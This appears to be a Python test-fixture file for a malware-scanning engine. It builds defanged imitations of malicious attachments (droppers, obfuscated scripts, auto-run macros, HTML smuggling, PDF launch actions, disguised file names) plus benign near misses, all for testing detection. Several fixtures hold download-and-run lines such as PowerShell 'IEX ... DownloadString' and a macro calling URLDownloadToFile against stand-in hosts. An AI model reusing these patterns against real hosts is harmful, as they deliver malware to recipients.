"""Harmless imitations of malware, one or more for each family of heuristics: what they would do leads nowhere, and what
they carry is noise. Beside them near misses, which must not be found. All made at run time.
"""

import base64
import random
import struct
from collections.abc import Sequence
from typing import Final

import msgspec

from tests.engine.scan.formats.compound import compound, native, packed, project
from tests.engine.scan.material import message, tarred, zipped
from tests.engine.scan.test_content import locked

_ID: Final = bytes.fromhex("0114020000000000c000000000000046")
READ, WRITE, EXECUTE, CODE = 0x40000000, 0x80000000, 0x20000000, 0x20
_STUB: Final = b"\x0e\x1f\xba\x0e\0This program cannot be run in DOS mode.\r\n$\0\0"
TEXT: Final = "The quick brown fox jumps over the lazy dog.\n"


class Imitation(msgspec.Struct, frozen=True):
    """content: of an attachment called name, or a whole message if name is empty. levels: at which it is found."""

    id: str
    name: str
    content: bytes
    family: str = ""
    levels: tuple[str, ...] = ("low", "medium", "high")

    @property
    def mail(self) -> bytes:
        return message("See the attachment.\n", [(self.name, self.content)]) if self.name else self.content


def noise(size: int, seed: int = 1) -> bytes:
    return random.Random(seed).randbytes(size)


# --- programs ---------------------------------------------------------------------------------------------


def pe(
    sections: Sequence[tuple[bytes, int, bytes]], entry: int, imports: Sequence[str] = (), time: int = 0x60000000
) -> bytes:
    """A PE32 file with these sections (name, flags, octets) at 0x10000, 0x20000 ... and one more with its imports.

    entry: number of the section in which it begins, -1: outside of all. Nothing in it can run.
    """
    every = [*sections]
    if imports:
        at = 0x10000 * (len(every) + 1)
        table = 40 + 4 * (len(imports) + 1)
        names, lookup = b"KERNEL32.dll\0\0", b""
        for name in imports:
            lookup += struct.pack("<L", at + table + len(names))
            names += b"\0\0" + name.encode() + b"\0"
        descriptor = struct.pack("<5L", at + 40, 0, 0, at + table, at + 40) + bytes(20)
        every.insert(0, (b".idata", READ | WRITE, descriptor + lookup + bytes(4) + names))
        order = [*range(1, len(every)), 0]
    else:
        order = list(range(len(every)))
    count = len(every)
    header = b"MZ" + bytes(58) + struct.pack("<L", 0x80) + _STUB.ljust(0x40, b"\0")
    start = 0x10000 * (entry + 1) if entry >= 0 else 0x900000
    optional = struct.pack("<HBB9L6H4L2H6L", 0x10B, 14, 0, 0, 0, 0, start, 0x1000, 0x1000, 0x400000, 0x1000, 0x200,
                           6, 0, 0, 0, 6, 0, 0, 0x10000 * (count + 1), 0x400, 0, 2, 0,
                           0x100000, 0x1000, 0x100000, 0x1000, 0, 16)  # fmt: skip
    directories = bytearray(128)
    if imports:
        struct.pack_into("<LL", directories, 8, 0x10000 * count, 40)
    coff = b"PE\0\0" + struct.pack("<2H3L2H", 0x14C, count, time, 0, 0, len(optional) + 128, 0x102)
    table_octets, body, offset = b"", b"", 0x400
    for number, place in enumerate(order):
        name, flags, octets = every[place]
        raw = octets + bytes(-len(octets) % 0x200)
        address = 0x10000 * (number + 1)
        table_octets += struct.pack(
            "<8s6L2HL", name, max(len(octets), 0x1000), address, len(raw), offset, 0, 0, 0, 0, flags
        )
        body += raw
        offset += len(raw)
    return (header + coff + optional + bytes(directories) + table_octets).ljust(0x400, b"\0") + body


_CODE: Final = b"\x55\x8b\xec\xc3" * 2000
_DATA: Final = (b".data", READ | WRITE, b"d" * 900)
PLAIN_PROGRAM: Final = pe([(b".text", READ | EXECUTE | CODE, _CODE), _DATA], 0, [f"Function{n}" for n in range(20)])
PACKED_PROGRAM: Final = pe(
    [(b"UPX0", READ | WRITE | EXECUTE | CODE, b""), (b"UPX1", READ | WRITE | EXECUTE, noise(30_000))],
    1,
    ["LoadLibraryA", "GetProcAddress", "VirtualProtect"],
)
INFECTED_PROGRAM: Final = pe(
    [(b".text", READ | EXECUTE | CODE, _CODE), (b"\x01\x02", READ | WRITE | EXECUTE, noise(8_000))], 1, time=1
)
INJECTOR: Final = pe(
    [(b".text", READ | WRITE | EXECUTE | CODE, noise(30_000)), _DATA],
    0,
    ["VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread", "OpenProcess"],
)


# --- shortcuts --------------------------------------------------------------------------------------------


def shortcut(target: str, arguments: str = "", icon: str = "", show: int = 1) -> bytes:
    flags = 0x80 | 0x08 | (0x20 if arguments else 0) | (0x40 if icon else 0)
    head = struct.pack("<L", 0x4C) + _ID + struct.pack("<LL", flags, 0x20) + bytes(24)
    head += struct.pack("<LLLH", 0, 0, show, 0) + bytes(10)
    texts = [target, *([arguments] if arguments else []), *([icon] if icon else [])]
    return head + b"".join(struct.pack("<H", len(one)) + one.encode("utf-16-le") for one in texts)


DROPPER_LINK: Final = shortcut(
    r"..\..\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    "-w hidden -c " + " " * 260 + "iwr https://example.invalid/a -OutFile $env:temp\\a",
    r"C:\Program Files\Reader\invoice.pdf",
    7,
)
PLAIN_LINK: Final = shortcut(r"..\..\Documents\report.docx")


# --- scripts ----------------------------------------------------------------------------------------------

_NUMBERS: Final = ",".join(str(ord(one)) for one in "nothing to see here, it is only a test of ours" * 3)
JS_OBFUSCATED: Final = (
    "var q=['\\x57\\x53\\x63\\x72','\\x69\\x70\\x74','\\x2e\\x53'];function z(a){return eval('('+a+')')}"
    + "var s='a'+'b'+'c'+'d'+'e'+'f'+'g'+'h';" * 30
    + f"var t=String.fromCharCode({_NUMBERS});"
    + "var o=new ActiveXObject(q[0]+q[1]+q[2]);eval(t);"
    + "\\x41\\x42\\x43\\x44" * 40
).encode()
VBS_DROPPER: Final = (
    b'Set x = CreateObject("MSXML2.XMLHTTP")\r\nx.Open "GET", "http://example.invalid/a", False\r\nx.Send\r\n'
    b'Set s = CreateObject("ADODB.Stream")\r\ns.SaveToFile CreateObject("WScript.Shell")'
    b'.ExpandEnvironmentStrings("%temp%") & "\\a.txt"\r\nCreateObject("WScript.Shell").Run "notepad"\r\n'
)
PS_DROPPER: Final = (
    "powershell -nop -w hidden -ep bypass -enc " + base64.b64encode(("nothing " * 20).encode("utf-16-le")).decode()
    + "\r\nIEX (New-Object Net.WebClient).DownloadString('http://example.invalid/')\r\n"
).encode()  # fmt: skip
PS_COMMAND: Final = b"powershell -w hidden -enc " + base64.b64encode(("nothing " * 20).encode("utf-16-le"))
BAT_BROKEN: Final = (
    "@echo off\r\nset a=abcdefghijklmnopqrstuvwxyz\r\n"
    + "%a:~1,1%%a:~4,1%%a:~7,1%%a:~1,1%%a:~4,1%%a:~7,1%%a:~2,1%\r\n" * 6
    + "p^ow^er^s^he^ll -c rundll32\r\n"
).encode()  # fmt: skip
PLAIN_JS: Final = (
    "function add(a, b) {\n  // eval( is not used here\n  return a + b;\n}\nmodule.exports = add;\n" * 20
).encode()
PLAIN_BAT: Final = b"@echo off\r\nrem copies the reports\r\nxcopy /s reports \\\\server\\share\\reports\r\npause\r\n"
PLAIN_VBS: Final = b'Set f = CreateObject("Scripting.FileSystemObject")\r\nWScript.Echo f.FileExists("a.txt")\r\n'


# --- macros -----------------------------------------------------------------------------------------------

MACRO: Final = (
    'Attribute VB_Name = "ThisDocument"\r\nPrivate Sub Document_Open()\r\n'
    'Dim a\r\na = Shell("cmd /c powershell -w hidden -c iwr http://example.invalid/", vbHide)\r\n'
    'b = Environ("temp") & "\\x"\r\nURLDownloadToFile 0, "http://example.invalid", b, 0, 0\r\nEnd Sub\r\n'
)
PLAIN_MACRO: Final = (
    'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\nMsgBox "Welcome"\r\nRange("A1").Value = Now\r\nEnd Sub\r\n'
)


def document(macro: str, **more: bytes) -> bytes:
    return compound({"WordDocument": b"\xec\xa5" + bytes(5000), "Macros": project({"ThisDocument": macro}), **more})


# --- pages, PDF, RTF --------------------------------------------------------------------------------------

_HIDDEN: Final = base64.b64encode(zipped({"a.js": b"nothing " * 900, "b": noise(9000)})).decode()
SMUGGLING: Final = (
    "<html><body><script>var d='" + _HIDDEN + "';var r=atob(d);var n=r.length;var u=new Uint8Array(n);"
    "var b=new Blob([u],{type:'octet/stream'});var a=document.createElement('a');a.href=URL.createObjectURL(b);"
    "a.download='invoice.zip';document.body.appendChild(a);a.click();</script></body></html>"
).encode()  # fmt: skip
CHART: Final = (
    b"<html><body><canvas></canvas><script>document.querySelector('a').download='chart.png';"
    b"canvas.toBlob(function(b){a.href=URL.createObjectURL(b)});</script></body></html>"
)
HTA: Final = (
    b"<html><head><HTA:APPLICATION ID='a' WINDOWSTATE='minimize'></head><script language='VBScript'>"
    b'CreateObject("WScript.Shell").Run "cmd /c echo nothing"</script></html>'
)


def pdf(*objects: bytes) -> bytes:
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number + 1, one) for number, one in enumerate(objects))
    return b"%PDF-1.7\n" + body + b"trailer\n<</Root 1 0 R>>\n%%EOF\n"


PDF_LAUNCH: Final = pdf(
    b"<</Type/Catalog/OpenAction 2 0 R>>",
    b"<</S/Launch/Win<</F(cmd.exe)/P(/c echo nothing)>>>>",
    b"<</S/JavaScript/JS(app.alert\\('nothing'\\))>>",
)
PDF_SCRIPT: Final = pdf(
    b"<</Type/Catalog/OpenAction 2 0 R>>",
    b"<</S/JavaScript/JS(var a=unescape\\('%u4141%u4141'\\);eval\\(String.fromCharCode\\(97\\)\\);"
    b"this.exportDataObject\\({cName:'x',nLaunch:2}\\))>>",
)
PDF_FORM: Final = pdf(
    b"<</Type/Catalog/OpenAction[3 0 R/Fit]>>",
    b"<</S/JavaScript/JS(event.value = this.getField\\('a'\\).value;)>>",
    b"<</Type/Page>>",
)
PDF_CALCULATES: Final = pdf(
    b"<</Type/Catalog/OpenAction 2 0 R>>",
    b"<</S/JavaScript/JS(AFNumber_Format\\(2,0,0,0,'',true\\); var s = String.fromCharCode\\(32\\);"
    b" eval\\('1+1'\\);)>>",
)
_OBJECT: Final = b"{\\object\\objemb%s{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000" + b"00" * 40 + b"}}"
RTF_EQUATION: Final = b"{\\rtf1\\ansi " + _OBJECT % b"\\objupdate" + b"}"
RTF_TEMPLATE: Final = b"{\\rtf1\\ansi{\\*\\template http://example.invalid/a.dot}text}"
RTF_OLD_FORMULA: Final = b"{\\rtf1\\ansi " + _OBJECT % b"" + b"}"


# --- what is encrypted ------------------------------------------------------------------------------------


def closed(text: str, *names: str) -> bytes:
    return message(text, [("documents.zip", locked({name: noise(300) for name in names}))])


HITS: Final = [
    Imitation("pdf.exe", "invoice.pdf.exe", PLAIN_PROGRAM, "MisleadingName", ("low", "medium", "high")),
    Imitation("in-archive", "i.zip", zipped({f"{n}.txt": b"x" for n in range(9)} | {"a.doc.scr": b"MZ text"}),
              "MisleadingName", ("medium", "high")),
    Imitation("two-dots", "invoice.pdf..exe", PLAIN_PROGRAM, "MisleadingName"),
    Imitation("override", "report\u202efdp.exe", PLAIN_PROGRAM, "MisleadingName"),
    Imitation("blanks", "report.pdf" + " " * 60 + ".exe", PLAIN_PROGRAM, "MisleadingName"),
    Imitation("class-id", "report.{3050f4d8-98b5-11cf-bb82-00aa00bdce0b}", b"anything", "MisleadingName"),
    Imitation("script-name", "report.pdf.js", PLAIN_JS, "MisleadingName", ("medium", "high")),
    Imitation("type", "photo.jpg", PLAIN_PROGRAM, "DisguisedProgram"),
    Imitation("link-as-document", "plan.pdf", PLAIN_LINK, "DisguisedProgram"),
    Imitation("packed", "setup.exe", PACKED_PROGRAM, "PackedProgram"),
    Imitation("infected", "tool.exe", INFECTED_PROGRAM, "PackedProgram"),
    Imitation("injector", "tool.exe", INJECTOR, "PackedProgram"),
    Imitation("packed-in-zip", "t.zip", zipped({"tool.exe": PACKED_PROGRAM}), "PackedProgram"),
    Imitation("macro", "order.doc", document(MACRO), "AutoRunMacro"),
    Imitation("macro-in-docm", "order.docm",
              zipped({"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>",
                      "word/vbaProject.bin": compound(project({"ThisDocument": MACRO}))}), "AutoRunMacro"),
    Imitation("macro-spread", "order.doc",
              compound({"WordDocument": b"\xec\xa5" + bytes(5000), "Macros": project(
                  {"ThisDocument": "Sub AutoOpen()\r\nRunIt\r\nEnd Sub\r\n", "Other": MACRO.replace("_Open", "_It")})}),
              "AutoRunMacro"),
    Imitation("no-source", "order.doc",
              compound({"Workbook": b"\x09\x08\x10\0" + bytes(4090),
                        "_VBA_PROJECT_CUR": project({"Sheet1": MACRO}, b"\x01")}), "", ()),
    Imitation("program-in-doc", "order.doc",
              compound({"WordDocument": b"\xec\xa5" + bytes(5000), "ObjectPool": {"_1": {
                  "\x01Ole10Native": native(packed("a.exe", "c:\\a.exe", "c:\\a.exe", PLAIN_PROGRAM))}}}),
              "DocumentDropper", ("medium", "high")),
    Imitation("vbs", "order.vbs", VBS_DROPPER, "ScriptDropper", ("medium", "high")),
    Imitation("powershell", "order.ps1", PS_DROPPER, "ScriptDropper"),
    Imitation("vbs-utf16", "order.vbs", b"\xff\xfe" + VBS_DROPPER.decode().encode("utf-16-le"), "ScriptDropper",
              ("medium", "high")),
    Imitation("js", "order.js", JS_OBFUSCATED, "ObfuscatedScript"),
    Imitation("bat", "order.bat", BAT_BROKEN, "ObfuscatedScript"),
    Imitation("bat-carets", "order.bat", b"^".join(bytes((one,)) for one in PS_COMMAND[:24]) + PS_COMMAND[24:],
              "ScriptDropper"),
    Imitation("powershell-pieces", "order.ps1",
              b"&('I'+'EX') (New-Object ('Net.'+'WebClient')).('Down'+'loadString')('http://x.invalid/')\n",
              "ScriptDropper", ("medium", "high")),
    Imitation("powershell-marks", "order.ps1",
              b"I`E`X (Ne`w-Ob`ject Net.WebC`lient).Down`loadStr`ing('http://x.invalid/')\n", "ScriptDropper"),
    Imitation("vbs-padded", "order.vbs", VBS_DROPPER + b"\n' padding" * 40_000, "ScriptDropper", ("medium", "high")),
    Imitation("vbs-padded-twice", "order.vbs", b"\n' padding" * 40_000 + b"\n" + VBS_DROPPER + b"\n' padding" * 40_000,
              "ScriptDropper", ("medium", "high")),
    Imitation("vbs-blanks", "order.vbs", VBS_DROPPER + b"\nx Shell" + b" " * 260_000, "ScriptDropper",
              ("medium", "high")),
    Imitation("js-front", "order.js", b"%PDF-1.4\r\n" + VBS_DROPPER, "ScriptDropper", ("medium", "high")),
    Imitation("js-mail-front", "order.js", b"From: x\r\nTo: y\r\nSubject: x\r\n\r\n" + VBS_DROPPER, "ScriptDropper",
              ("medium", "high")),
    Imitation("jse", "order.jse", b"#@~^AAAAAA==" + noise(60).hex().encode(), "ObfuscatedScript", ("medium", "high")),
    Imitation("lnk", "order.lnk", DROPPER_LINK, "ShortcutDropper"),
    Imitation("lnk-with-page", "order.lnk", shortcut("x") + b"<script>var a</script>", "ShortcutDropper", ("high",)),
    Imitation("smuggling", "order.html", SMUGGLING, "HtmlSmuggling"),
    Imitation("smuggling-utf16", "order.html", b"\xff\xfe" + SMUGGLING.decode().encode("utf-16-le"), "HtmlSmuggling"),
    Imitation("hta", "order.hta", HTA, "ScriptPage", ("medium", "high")),
    Imitation("password", "", closed("The password is 4711.\n", "order.exe"), "PasswordInText"),
    Imitation("password-de", "", closed("Das Passwort lautet geheim7\n", "order.js"), "PasswordInText"),
    Imitation("password-ru", "", closed("Пароль: 1234\n", "order.lnk"), "PasswordInText"),
    Imitation("password-document", "", closed("mot de passe : abc9\n", "order.doc"), "PasswordInText", ("high",)),
    Imitation("launch", "order.pdf", PDF_LAUNCH, "PdfAction"),
    Imitation("pdf-script", "order.pdf", PDF_SCRIPT, "PdfAction"),
    Imitation("equation", "order.rtf", RTF_EQUATION, "RtfObject", ("medium", "high")),
    Imitation("template", "order.rtf", RTF_TEMPLATE, "RtfObject", ("medium", "high")),
    Imitation("gif-script", "a.gif", b"GIF89a/*" + bytes(40) + b"*/=1;alert(1)", "Polyglot", ("medium", "high")),
    Imitation("jpeg-page", "a.jpg", b"\xff\xd8\xff\xe0" + noise(900) + b"<script>alert(1)</script>", "Polyglot",
              ("medium", "high")),
    Imitation("png-program", "a.png", b"\x89PNG\r\n\x1a\n" + noise(900) + PLAIN_PROGRAM, "Polyglot",
              ("medium", "high")),
    Imitation("pdf-zip", "a.pdf", PDF_FORM + zipped({"a.exe": PLAIN_PROGRAM}), "Polyglot"),
]  # fmt: skip


def _near(id: str, name: str, content: bytes, *levels: str) -> Imitation:
    return Imitation(id, name, content, "", levels)


NEAR: Final = [
    _near("program", "setup.exe", PLAIN_PROGRAM),
    _near("version-name", "setup 2.0.1.exe", PLAIN_PROGRAM),
    _near("dots", "report.final.v2.pdf", PDF_FORM),
    _near("hebrew", "\u05d3\u05d5\u05d7\u202c.pdf", PDF_FORM),
    _near("javascript", "library.min.js", PLAIN_JS),
    _near("batch", "copy.bat", PLAIN_BAT),
    _near("administrators-script", "check.vbs", PLAIN_VBS),
    _near("harmless-macro", "order.doc", document(PLAIN_MACRO)),
    _near("link", "report.lnk", PLAIN_LINK),
    _near("chart", "chart.html", CHART),
    _near("form", "form.pdf", PDF_FORM),
    _near("template-of-the-company", "letter.rtf",
          b"{\\rtf1{\\*\\template \\\\\\\\server\\\\share\\\\letter.dotx}Dear Sir}"),
    _near("calculating-form", "form.pdf", PDF_CALCULATES, "high"),
    _near("words-in-pieces", "menu.js", b"var a = 'The ' + 'quick ' + 'brown ' + 'fox' + name + '.' + 'html';\n" * 20),
    _near("formula", "old.rtf", RTF_OLD_FORMULA, "high"),
    _near("closed-without-password", "", closed("See attached.\n", "order.doc", "order.xls")),
    _near("password-policy", "", message("Your password is: never to be told.\n", [("a.zip", zipped({"a": b"a"}))])),
    _near("archive-of-programs", "tools.tar", tarred({f"bin/tool{n}.exe": PLAIN_PROGRAM for n in range(9)})),
    _near("picture", "a.gif", b"GIF89a" + bytes(500)),
    _near("text-about-it", "notes.txt", b"URLDownloadToFile and WScript.Shell and powershell -enc\n" * 9),
    _near("sealed-mail", "",
          b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nThe password is 4711.\r\n--b\r\n"
          b"Content-Type: application/pkcs7-mime; name=smime.p7m\r\n\r\n"
          + bytes.fromhex("308006092a864886f70d010703a0803080020100") + b"\r\n--b--\r\n"),
    _near("body", "", message("eval(unescape('%41%42')) new ActiveXObject('WScript.Shell')\n" * 30)),
]  # fmt: skip
